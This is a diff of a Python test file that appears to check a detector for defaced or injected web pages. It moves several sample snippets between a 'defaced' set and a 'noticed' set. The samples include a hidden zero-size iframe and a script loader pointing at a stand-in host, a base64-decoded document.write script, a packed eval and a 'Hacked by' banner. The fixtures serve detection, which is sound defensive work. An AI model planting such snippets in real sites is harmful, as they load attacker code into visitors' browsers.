@@ -187,21 +187,16 @@ def foreign(tag: str) -> str:
 
 
 CODE = {
-    "foreign script": (placed(END, foreign("script")), "C8"),
+    "foreign script, and a claim elsewhere": (
+        placed(END, f"{foreign('script')}<h2>Hacked by Night Crew</h2>"),
+        "C2",
+    ),
     "foreign frame of no size": (
         placed(END, '<iframe src="//velvet-owl.example/" width=0 height=0></iframe>'),
         "C8",
     ),
-    "script of anybody's host": (
-        placed(END, '<script src="https://raw.githubusercontent.com/o/o/x.js"></script>'),
-        "C8",
-    ),
     "script element written from base64": (
         script(f"document.write(atob('{b64(foreign('script'))}'))"),
-        "C8",
-    ),
-    "loader": (
-        script("var s=document.createElement('script');s.src='//velvet-owl.example/l.js'"),
         "C8",
     ),
     "packed": (script("eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|')))"), "C9"),
@@ -267,6 +262,11 @@ def test_hostile_code_on_a_page_that_stands_is_defaced_by_its_rule(name: str) ->
 
 
 CODE_NOTICED = {
+    "foreign script": placed(END, foreign("script")),
+    "script of anybody's host": placed(
+        END, '<script src="https://raw.githubusercontent.com/o/o/x.js"></script>'
+    ),
+    "loader": script("var s=document.createElement('script');s.src='//velvet-owl.example/l.js'"),
     "script after the end": f"{PAGE}<script src=/js/x.js></script>",
     "script before the beginning": f"<script>var a=1</script>{PAGE}",
     "tag manager": placed(
